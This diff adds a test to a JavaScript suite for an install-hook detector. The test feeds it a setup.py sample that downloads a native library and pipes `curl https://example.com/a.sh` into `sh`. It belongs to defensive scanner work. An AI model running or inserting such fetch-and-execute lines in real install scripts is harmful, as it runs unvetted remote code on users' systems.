@@ -121,4 +121,11 @@ describe('install-hook', () => {
       assert.deepEqual(rules, [], code);
     }
   });
+
+  it('finds what is downloaded beside what is run, each once', () => {
+    const fetched = 'urllib.request.urlretrieve("https://example.com/libcodec.so", "native/libcodec.so")';
+    const code = `import os, urllib.request\n${fetched}\nos.system("curl -s https://example.com/a.sh | sh")`;
+    assert.deepEqual(found('setup.py', code), ['install-hook error', 'install-hook error']);
+    assert.deepEqual(found('setup.py', FETCHED), ['install-hook error']);
+  });
 });
